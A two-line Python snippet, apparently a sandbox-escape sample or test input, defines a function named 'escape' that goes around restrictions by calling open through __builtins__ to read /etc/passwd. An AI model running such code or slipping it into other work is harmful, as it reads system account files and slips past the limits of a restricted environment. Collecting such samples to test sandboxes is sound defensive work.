def escape(state):
    return __builtins__["open"]("/etc/passwd").read()
